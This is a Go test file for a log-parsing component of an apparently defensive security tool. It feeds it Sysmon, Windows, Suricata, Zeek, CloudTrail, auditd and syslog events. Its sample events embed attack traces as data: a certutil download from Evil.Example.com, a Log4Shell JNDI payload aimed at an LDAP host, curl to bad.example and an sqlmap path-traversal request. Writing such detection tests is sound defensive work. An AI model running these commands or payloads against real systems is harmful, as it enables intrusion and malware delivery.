package read_test

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/meneki/meneki/internal/event"
	"github.com/meneki/meneki/internal/event/read"
)

// The same Sysmon event as five forwarders and tools write it.
var sysmonShapes = map[string]string{
	"evtx_dump": `{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{
		"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
		"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000",
		"TimeCreated":{"#attributes":{"SystemTime":"2026-01-02T03:04:05.678Z"}},"EventRecordID":77,"Correlation":null,
		"Execution":{"#attributes":{"ProcessID":3208,"ThreadID":1724}},"Channel":"Microsoft-Windows-Sysmon/Operational",
		"Computer":"pc1.example.jp","Security":{"#attributes":{"UserID":"S-1-5-18"}}},
		"EventData":{"UtcTime":"2026-01-02 03:04:05.670","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://Evil.Example.com/a.exe",
		"User":"EX\\sato","Hashes":"SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C"}}}`,
	"xmltodict": `{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Sysmon","@Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"},
		"EventID":"1","Version":"5","Level":"4","Task":"1","Opcode":"0","Keywords":"0x8000000000000000","TimeCreated":{"@SystemTime":"2026-01-02T03:04:05.678Z"},
		"EventRecordID":"77","Execution":{"@ProcessID":"3208","@ThreadID":"1724"},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1.example.jp","Security":{"@UserID":"S-1-5-18"}},
		"EventData":{"Data":[{"@Name":"UtcTime","#text":"2026-01-02 03:04:05.670"},{"@Name":"Image","#text":"C:\\Windows\\System32\\certutil.exe"},
		{"@Name":"CommandLine","#text":"certutil -urlcache -f http://Evil.Example.com/a.exe"},{"@Name":"User","#text":"EX\\sato"},
		{"@Name":"Hashes","#text":"SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C"}]}}}`,
	"xml": `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider ` +
		`Name="Microsoft-Windows-Sysmon" Guid="5770385F-C22A-43E0-BF4C-06F5698FFBD9"/><EventID>1</EventID><Version>` +
		`5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
		`<TimeCreated SystemTime="2026-01-02T03:04:05.678Z"/><EventRecordID>77</EventRecordID><Correlation/>` +
		`<Execution ProcessID="3208" ThreadID="1724"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>` +
		`<Computer>pc1.example.jp</Computer><Security UserID="S-1-5-18"/></System><EventData><Data Name="UtcTime">` +
		`2026-01-02 03:04:05.670</Data><Data Name="Image">C:\Windows\System32\certutil.exe</Data><Data ` +
		`Name="CommandLine">certutil -urlcache -f http://Evil.Example.com/a.exe</Data><Data Name="User">` +
		`EX\sato</Data><Data Name="Hashes">SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,` +
		`IMPHASH=C324AAAC01F0F75C811E1F80C41B860C</Data></EventData></Event>`,
	"nxlog": `{"EventTime":"2026-01-02 12:04:05.678","EventReceivedTime":"2026-01-02 12:04:07","@timestamp":"2026-01-02T03:04:08.100Z","Hostname":"pc1.example.jp","Keywords":"0x8000000000000000",
		"SeverityValue":2,"Severity":"INFO","EventType":"INFO","SourceModuleType":"im_msvistalog","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9","Version":5,"Level":4,"Task":1,"Opcode":0,
		"RecordNumber":77,"ExecutionProcessID":3208,"ThreadID":1724,"Channel":"Microsoft-Windows-Sysmon/Operational","UserID":"S-1-5-18",
		"UtcTime":"2026-01-02 03:04:05.670","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://Evil.Example.com/a.exe","User":"EX\\sato",
		"Hashes":"SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C"}`,
	"winlogbeat": `{"@timestamp":"2026-01-02T03:04:05.678Z","host":{"name":"pc1.example.jp"},"message":"Process Create","winlog":{"provider_name":"Microsoft-Windows-Sysmon","provider_guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9",
		"event_id":"1","version":5,"level":4,"task":1,"opcode":0,"keywords":"0x8000000000000000","record_id":77,"process":{"pid":3208,"thread":{"id":1724}},"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"pc1.example.jp","user":{"identifier":"S-1-5-18"},
		"event_data":{"UtcTime":"2026-01-02 03:04:05.670","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://Evil.Example.com/a.exe","User":"EX\\sato","Hashes":"SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C"}}}`,
	"log analytics": `{"TimeGenerated":"2026-01-02T03:04:05.678Z","Provider":"Microsoft-Windows-Sysmon","Provider_Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1.example.jp","Task":1,"Version":5,"Level":4,"Opcode":0,"Keywords":"0x8000000000000000","EventRecordID":77,
		"Execution_ProcessID":3208,"Execution_ThreadID":1724,"Security_UserID":"S-1-5-18","EventID":1,
		"EventData":"<EventData><Data Name=\"UtcTime\">2026-01-02 03:04:05.670</Data><Data Name=\"Image\">C:\\Windows\\System32\\certutil.exe</Data><Data Name=\"CommandLine\">certutil -urlcache -f http://Evil.Example.com/a.exe</Data><Data Name=\"User\">EX\\sato</Data><Data Name=\"Hashes\">SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C</Data></EventData>"}`,
	"collector": `{"channel":"Microsoft-Windows-Sysmon/Operational","computer":"pc1.example.jp","event_id":{"id":1,"qualifiers":0},"provider":{"name":"Microsoft-Windows-Sysmon","guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"},
		"record_id":77,"version":5,"level":4,"task":1,"opcode":0,"keywords":"0x8000000000000000","system_time":"2026-01-02T03:04:05.678Z","execution":{"process_id":3208,"thread_id":1724},"security":{"user_id":"S-1-5-18"},
		"event_data":{"UtcTime":"2026-01-02 03:04:05.670","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://Evil.Example.com/a.exe","User":"EX\\sato","Hashes":"SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C"}}`,
}

func TestWindowsShapesMeanTheSame(t *testing.T) {
	want := map[string]any{
		"Provider_Name": "Microsoft-Windows-Sysmon", "Provider_Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
		"EventID": int64(1), "Version": int64(5), "Level": int64(4), "Task": int64(1), "Opcode": int64(0),
		"Keywords":      "0x8000000000000000",
		"EventRecordID": int64(77), "Execution_ProcessID": int64(3208), "Execution_ThreadID": int64(1724),
		"Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "pc1.example.jp", "Security_UserID": "S-1-5-18",
		"UtcTime": "2026-01-02 03:04:05.670", "Image": `C:\Windows\System32\certutil.exe`, "User": `EX\sato`,
		"CommandLine": "certutil -urlcache -f http://Evil.Example.com/a.exe",
		"Hashes":      "SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C",
	}
	for name, raw := range sysmonShapes {
		t.Run(name, func(t *testing.T) {
			e := one(t, raw)
			fields(t, e, want)
			if e.Product != "windows" || e.Service != "sysmon" ||
				!cmp.Equal(e.Categories, []string{"process_creation"}) {
				t.Errorf("%s/%s %v", e.Product, e.Service, e.Categories)
			}
			if e.Host != "pc1.example.jp" || e.User != `EX\sato` {
				t.Errorf("host %q user %q", e.Host, e.User)
			}
			if !e.Time.Equal(time.Date(2026, 1, 2, 3, 4, 5, 678e6, time.UTC)) {
				t.Errorf("time %v", e.Time)
			}
			if string(e.Raw) != raw {
				t.Errorf("raw %q", e.Raw)
			}
			obs := []event.Observable{{Type: event.SHA1, Value: "5e4f2c531c549bb72a658ed9dd16d491eddbb286"},
				{Type: event.Domain, Value: "evil.example.com"},
				{Type: event.URL, Value: "http://evil.example.com/a.exe"}}
			if d := cmp.Diff(obs, event.Observables(e)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestWindowsRouting(t *testing.T) {
	for _, c := range []struct {
		raw, service string
		categories   string
		fields       map[string]any
	}{
		{`{"Channel":"Security","EventID":"4688","SourceName":"Microsoft-Windows-Security-Auditing",` +
			`"NewProcessName":"C:\\x.exe","ParentProcessName":"C:\\y.exe","CommandLine":"x -a",` +
			`"SubjectUserName":"sato","SubjectDomainName":"EX","SubjectUserSid":"S-1-5-21-1",` +
			`"MandatoryLabel":"S-1-16-12288","ProcessId":"0x4"}`,
			"security", "process_creation",
			map[string]any{"Image": `C:\x.exe`, "ParentImage": `C:\y.exe`, "User": `EX\sato`, "IntegrityLevel": "High",
				"NewProcessName": `C:\x.exe`, "ProcessId": "0x4", "ParentProcessId": "0x4"}},
		{`{"Channel":"security","EventID":4688,"SubjectUserSid":"S-1-5-18","SubjectUserName":"PC$",` +
			`"TokenElevationType":"%%1937"}`,
			"security", "process_creation", map[string]any{"User": `NT AUTHORITY\SYSTEM`, "IntegrityLevel": "High"}},
		{`{"Channel":"Security","EventID":4657,"ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\X","ObjectValueName":"V",` +
			`"OperationType":"%%1905","NewValueType":"%%1876","NewValue":"1","ProcessName":"C:\\r.exe"}`,
			"security", "registry_event registry_set",
			map[string]any{"TargetObject": `HKLM\SOFTWARE\X\V`, "Details": "DWORD (0x00000001)", "Image": `C:\r.exe`,
				"EventType": "SetValue"}},
		{`{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":12,"EventType":"DeleteKey"}`, "sysmon",
			"registry_event registry_delete", nil},
		{`{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":12}`, "sysmon",
			"registry_event registry_add registry_delete", nil},
		{`{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":13,"EventType":"INFO","SeverityValue":2}`,
			"sysmon", "registry_event registry_set", map[string]any{"NXLogEventType": "INFO"}},
		{`{"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"x"}`, "powershell",
			"ps_script", nil},
		// A field that is null is there; a System field that is null may be under another name.
		{`{"Channel":"System","EventID":7045,"ServiceName":null,"Provider_Name":null,"ProviderName":"x",` +
			`"EventRecordID":null,"RecordId":5}`, "system", "",
			map[string]any{"ServiceName": any(nil), "Provider_Name": "x", "EventRecordID": int64(5)}},
		{`{"Channel":"PowerShellCore/Operational","EventID":4103}`, "powershell", "ps_module", nil},
		{`{"Channel":"Windows PowerShell","EventID":400,"Message":"HostApplication=x"}`, "powershell-classic",
			"ps_classic_start", map[string]any{"Data": "HostApplication=x"}},
		{`{"winlog":{"channel":"Windows PowerShell","event_id":600,"event_data":{"param1":"WSMan",` +
			`"param2":"Started"}}}`, "powershell-classic", "ps_classic_provider_start",
			map[string]any{"Data": []any{"WSMan", "Started"}}},
		{`{"Channel":"System","EventID":7045,"ServiceName":"PSEXESVC"}`, "system", "", nil},
		{`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Windows Defender"}},` +
			`"EventID":{"#text":1116,"#attributes":{"Qualifiers":0}},"Channel":"Microsoft-Windows-Windows ` +
			`Defender/Operational"},"EventData":{"Threat Name":"EICAR","Source Name":"AMSI","Path":"C:\\e.com"}}}`,
			"windefend", "antivirus",
			map[string]any{"ThreatName": "EICAR", "Threat_Name": "EICAR", "SourceName": "AMSI", "Signature": "EICAR",
				"Filename": `C:\e.com`, "EventID": int64(1116)}},
		{`{"Event":{"System":{"EventID":104,"Channel":"System",` +
			`"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}}},` +
			`"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"x"},"SubjectUserName":"a",` +
			`"Channel":"Application"}}}}`,
			"system", "", map[string]any{"SubjectUserName": "a", "Channel": "System"}},
		{`{"Event":{"System":{"EventID":1,"Channel":"Application"},"EventData":{"Data":["a","b"],"Binary":null}}}`,
			"application", "", map[string]any{"Data": []any{"a", "b"}}},
	} {
		e := one(t, c.raw)
		if e.Product != "windows" || e.Service != c.service || strings.Join(e.Categories, " ") != c.categories {
			t.Errorf("%s\n%s/%s %v", c.raw, e.Product, e.Service, e.Categories)
		}
		fields(t, e, c.fields)
	}
}

func TestOtherShapes(t *testing.T) {
	for _, c := range []struct {
		name, raw  string
		logsource  string
		host, user string
		time       string
		fields     map[string]any
		obs        string
	}{
		{"eve.json", `{"timestamp":"2026-01-02T12:04:05.000001+0900","flow_id":1,"event_type":"dns",` +
			`"src_ip":"192.0.2.1","src_port":5,"dest_ip":"192.0.2.53","dest_port":53,"proto":"UDP",` +
			`"dns":{"type":"answer","rrname":"BAD.example","rrtype":"A","answers":[{"rrname":"bad.example",` +
			`"rrtype":"A","rdata":"198.51.100.7"}]}}`,
			"suricata/dns/dns,network", "", "", "2026-01-02T03:04:05.000001Z",
			map[string]any{"query": "BAD.example", "record_type": "A", "answer": []any{"198.51.100.7"},
				"dst_ip": "192.0.2.53", "dest_ip": "192.0.2.53", "dns.rrname": "BAD.example"},
			"domain-name=bad.example ipv4-addr=192.0.2.1 ipv4-addr=192.0.2.53 ipv4-addr=198.51.100.7"},
		{"eve.json", `{"timestamp":"2026-01-02T03:04:05Z","flow_id":2,"event_type":"http","src_ip":"2001:db8::1",` +
			`"dest_ip":"192.0.2.2","http":{"hostname":"www.example.com",` +
			`"url":"/a/b.php?x=${jndi:ldap://198.51.100.9:1389/z}","http_user_agent":"curl/8","http_method":"GET",` +
			`"status":200}}`,
			"suricata/http/proxy,webserver", "", "", "2026-01-02T03:04:05Z",
			map[string]any{"cs-method": "GET", "cs-host": "www.example.com", "c-useragent": "curl/8",
				"sc-status": int64(200), "cs-uri-stem": "/a/b.php", "c-uri-extension": "php",
				"c-uri": "http://www.example.com/a/b.php?x=${jndi:ldap://198.51.100.9:1389/z}"},
			"domain-name=www.example.com ipv4-addr=192.0.2.2 ipv6-addr=2001:db8::1 " +
				"url=http://www.example.com/a/b.php?x=${jndi:ldap://198.51.100.9:1389/z} ipv4-addr=198.51.100.9 " +
				"url=ldap://198.51.100.9:1389/z"},
		{"eve.json", `{"timestamp":"2026-01-02T03:04:05Z","flow_id":3,"event_type":"flow","src_ip":"192.0.2.1",` +
			`"dest_ip":"192.0.2.2","dest_port":22}`, "suricata/connection/firewall,network", "", "", "",
			map[string]any{"dst_port": int64(22)}, "ipv4-addr=192.0.2.1 ipv4-addr=192.0.2.2"},
		{"conn.log", `{"ts":1767322245.25,"uid":"C1","id.orig_h":"192.0.2.1","id.orig_p":1,"id.resp_h":"192.0.2.2",` +
			`"id.resp_p":443,"proto":"tcp"}`, "zeek/conn/firewall,network", "", "", "2026-01-02T02:50:45.25Z",
			map[string]any{"dst_ip": "192.0.2.2", "src_port": int64(1)}, "ipv4-addr=192.0.2.1 ipv4-addr=192.0.2.2"},
		{"a.zip!x/dns.10:00:00-11:00:00.log.gz",
			`{"ts":"2026-01-02T03:04:05.5Z","uid":"C1","id.orig_h":"192.0.2.1","id.resp_h":"192.0.2.2",` +
				`"query":"bad.example","qtype_name":"TXT","answers":["TXT 3 abc"]}`, "zeek/dns/dns,network", "", "",
			"2026-01-02T03:04:05.5Z", map[string]any{"record_type": "TXT", "query": "bad.example"}, ""},
		{"x", `{"_path":"http","ts":1,"id":{"orig_h":"192.0.2.1","resp_h":"192.0.2.2"},"method":"POST",` +
			`"host":"h.example.org","uri":"/x?y"}`, "zeek/http/proxy,webserver", "", "", "1970-01-01T00:00:01Z",
			map[string]any{"cs-uri-query": "/x?y", "c-uri-query": "y", "id.orig_h": "192.0.2.1"},
			"domain-name=h.example.org ipv4-addr=192.0.2.1 ipv4-addr=192.0.2.2 url=http://h.example.org/x?y"},
		{"x", `{"ts":1,"id.orig_h":"192.0.2.1","id.resp_h":"192.0.2.2","endpoint":"svcctl",` +
			`"operation":"CreateServiceW"}`, "zeek/dce_rpc/", "", "", "", nil, ""},
		{"x", `{"eventVersion":"1.08","eventTime":"2026-01-02T03:04:05Z","eventSource":"iam.amazonaws.com",` +
			`"eventName":"CreateUser","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.5",` +
			`"userIdentity":{"type":"IAMUser","userName":"pedro"}}`, "aws/cloudtrail/", "", "pedro",
			"2026-01-02T03:04:05Z", map[string]any{"userIdentity.type": "IAMUser"}, "ipv4-addr=203.0.113.5"},
		{"x", `<34>1 2026-01-02T12:04:05.003+09:00 web1 sshd 42 ID7 [ex@1 k="v"] Failed password for root from ` +
			`203.0.113.9 port 22 ssh2`, "linux/sshd/", "web1", "", "2026-01-02T03:04:05.003Z",
			map[string]any{"message": "Failed password for root from 203.0.113.9 port 22 ssh2", "appname": "sshd",
				"procid": "42", "msgid": "ID7", "ex@1.k": "v", "facility": int64(4), "severity": int64(2)},
			"ipv4-addr=203.0.113.9"},
		{"x", `<85>Feb  3 12:04:05 web1 sudo[1]: alice : TTY=pts/0 ; PWD=/tmp ; USER=#-1 ; COMMAND=/bin/bash -c x`,
			"linux/sudo/", "web1", "alice", "2026-02-03T12:04:05Z",
			map[string]any{"USER": "#-1", "COMMAND": "/bin/bash -c x"}, ""},
		{"x", `Dec 31 23:59:59 web1 CRON[5]: (root) CMD (x)`, "linux/cron/", "web1", "", "2025-12-31T23:59:59Z", nil,
			""},
		{"x", `2026-01-02T12:04:05.5+09:00 web1 su: session opened`, "linux/auth/", "web1", "",
			"2026-01-02T03:04:05.5Z", map[string]any{"message": "session opened"}, ""},
		{"x", `<13>just words`, "linux/syslog/", "", "", "", map[string]any{"message": "just words"}, ""},
		{"x", `<189>77: *Feb  3 12:04:05.673: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no dot1x`,
			"cisco/aaa/", "", "", "2026-02-03T12:04:05.673Z", nil, ""},
		{"x", `192.0.2.1 6705: Feb  3 12:04:05.673: %BGP-3-NOTIFICATION: sent to neighbor`, "cisco/bgp/", "192.0.2.1",
			"", "2026-02-03T12:04:05.673Z", nil, ""},
		{"x", `<134>Feb  3 12:04:05 ids suricata[7]: @cee: {"timestamp":"2026-01-02T03:04:05Z","flow_id":1,` +
			`"event_type":"alert","src_ip":"192.0.2.1","alert":{"action":"allowed","signature":"X"}}`,
			"suricata/alert/", "ids", "", "2026-01-02T03:04:05Z", map[string]any{"alert.signature": "X"},
			"ipv4-addr=192.0.2.1"},
		{"x", `<13>Feb  3 12:04:05 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>5</EventID>` +
			`<TimeCreated SystemTime="2026-01-02T03:04:05Z"/><Channel>Linux-Sysmon/Operational</Channel><Computer>` +
			`web9</Computer></System><EventData><Data Name="Image">&lt unknown process&gt </Data></EventData></Event>`,
			"linux/sysmon/process_termination", "web9", "", "2026-01-02T03:04:05Z", nil, ""},
		{"x", `node=web1 type=EXECVE msg=audit(1767322245.250:9): argc=3 a0="curl" a1="-o" a2=2F746D702F612062`,
			"linux/auditd/process_creation", "web1", "", "2026-01-02T02:50:45.25Z",
			map[string]any{"type": "EXECVE", "a2": "/tmp/a b", "CommandLine": "curl -o /tmp/a b", "Image": "curl"}, ""},
		{"x", `<13>Feb  3 12:04:05 web1 audispd: type=SYSCALL msg=audit(1767322245.250:9): arch=c000003e syscall=59 ` +
			`a0=558e25052c70 auid=1000 comm="dd" exe="/bin/dd" key=(null)`, "linux/auditd/", "web1", "1000",
			"2026-01-02T02:50:45.25Z", map[string]any{"a0": "558e25052c70", "exe": "/bin/dd", "key": nil}, ""},
		{"x", `203.0.113.4 - bob [02/Jan/2026:12:04:05 +0900] "GET /cgi-bin/x?cmd=%2e%2e HTTP/1.1" 404 153 "-" ` +
			`"sqlmap/1.7"`, "//webserver", "", "bob", "2026-01-02T03:04:05Z",
			map[string]any{"cs-method": "GET", "cs-uri-query": "/cgi-bin/x?cmd=%2e%2e", "cs-user-agent": "sqlmap/1.7",
				"sc-status": int64(404), "c-ip": "203.0.113.4", "cs-referer": nil}, "ipv4-addr=203.0.113.4"},
		{"x", `{"a":1,"timestamp":1767322245250,"host":{"name":"h"}}`, "//", "h", "", "2026-01-02T02:50:45.25Z", nil,
			""},
		{"x", `{"a":1}`, "//", "", "", "2026-03-04T05:06:07Z", nil, ""},
		{"x", `some text of no known form`, "//", "", "", "2026-03-04T05:06:07Z",
			map[string]any{"message": "some text of no known form"}, ""},
		{"x", `{"Type":"Syslog","EventTime":"2026-01-02T03:04:05Z","Computer":"u5","ProcessName":"sshd",` +
			`"SyslogMessage":"Accepted password"}`, "linux/sshd/", "u5", "", "2026-01-02T03:04:05Z", nil, ""},
	} {
		e := oneIn(t, c.name, c.raw)
		if got := e.Product + "/" + e.Service + "/" + strings.Join(e.Categories, ","); got != c.logsource {
			t.Errorf("%s\nlogsource %s, want %s", c.raw, got, c.logsource)
		}
		if e.Host != c.host || e.User != c.user {
			t.Errorf("%s\nhost %q user %q", c.raw, e.Host, e.User)
		}
		if got := e.Time.Format(time.RFC3339Nano); c.time != "" && got != c.time {
			t.Errorf("%s\ntime %s, want %s", c.raw, got, c.time)
		}
		fields(t, e, c.fields)
		if c.obs != "" {
			var got []string
			for _, o := range event.Observables(e) {
				got = append(got, string(o.Type)+"="+o.Value)
			}
			if strings.Join(got, " ") != c.obs {
				t.Errorf("%s\nobservables %s, want %s", c.raw, strings.Join(got, " "), c.obs)
			}
		}
	}
}

// TestAuditGroup reads one execve as auditd spreads it over lines.
func TestAuditGroup(t *testing.T) {
	d := new(read.Decoder)
	var got []*event.Event
	for i, l := range []string{
		`type=SYSCALL msg=audit(1767322245.250:9): arch=c000003e syscall=59 success=yes ppid=7 pid=8 auid=1000 uid=0 ` +
			`comm="curl" exe="/usr/bin/curl"`,
		`type=EXECVE msg=audit(1767322245.250:9): argc=2 a0="curl" a1="http://bad.example/"`,
		`type=PROCTITLE msg=audit(1767322245.250:9): proctitle=6375726C0061`,
		`type=SYSCALL msg=audit(1767322245.260:10): arch=c000003e syscall=59 pid=9 exe="/bin/dd"`,
		`type=PROCTITLE msg=audit(1767322245.260:10): proctitle=64640069663D2F`,
	} {
		evs, err := d.Line(event.Source{Name: "audit.log", Offset: int64(i)}, []byte(l), read.Hint{Seen: seen})
		if err != nil || len(evs) != 1 {
			t.Fatal(err)
		}
		got = append(got, evs[0])
	}
	for i, want := range []string{"", "process_creation", "", "", "process_creation"} {
		if c := strings.Join(got[i].Categories, ","); c != want {
			t.Errorf("line %d is in %q, want %q", i, c, want)
		}
	}
	fields(t, got[1], map[string]any{"Image": "/usr/bin/curl", "CommandLine": "curl http://bad.example/",
		"ProcessId": "8", "User": "0"})
	fields(t, got[4], map[string]any{"Image": "/bin/dd", "CommandLine": "dd if=/"})
}

func TestLineHolds(t *testing.T) {
	src := event.Source{Sensor: "otlp", Name: "x", Offset: 100, Record: 5}
	evs, err := read.Line(src, []byte(`[{"a":1},{"a":2},7]`), read.Hint{Seen: seen})
	if len(evs) != 2 || err == nil || evs[1].From.Offset != 109 || evs[1].From.Record != 6 || evs[0].ID == evs[1].ID {
		t.Errorf("%v %v", evs, err)
	}
	if evs, err := read.Line(src, []byte("  \r\n"), read.Hint{Seen: seen}); evs != nil || err != nil {
		t.Errorf("%v %v", evs, err)
	}
	if _, err := read.Line(src, []byte(`{"a":`), read.Hint{Seen: seen}); err == nil {
		t.Error("half a record was taken")
	}
	a, _ := read.Line(src, []byte(`{"a":1}`), read.Hint{Seen: seen, Seed: "s"})
	b, _ := read.Line(src, []byte(`{"a":1}`), read.Hint{Seen: seen.Add(time.Hour), Seed: "s"})
	src.Offset++
	c, _ := read.Line(src, []byte(`{"a":1}`), read.Hint{Seen: seen, Seed: "s"})
	if a[0].ID != b[0].ID || a[0].ID == c[0].ID {
		t.Error("ids do not follow place and content")
	}
}

func TestSniffLists(t *testing.T) {
	for head, want := range map[string]read.Form{
		"[\n  {\n": read.Whole, "[\r\n{\"a\":1},\r\n": read.Whole, "[{\"a\":1},\n{\"a\":2}]\n": read.Whole,
		"[ {\n \"a\": 1":                       read.Whole,
		"[{\"a\":1},{\"a\":2}]\n[{\"a\":3}]\n": read.Lines, "[Sun Nov 29 10:00:00 2026] [error] x\n": read.Lines,
		"{\"a\":1}\n": read.Lines, "[]\n": read.Lines,
	} {
		if got, _ := read.Sniff("a.json", []byte(head), true); got != want {
			t.Errorf("%q is %d, want %d", head, got, want)
		}
	}
}
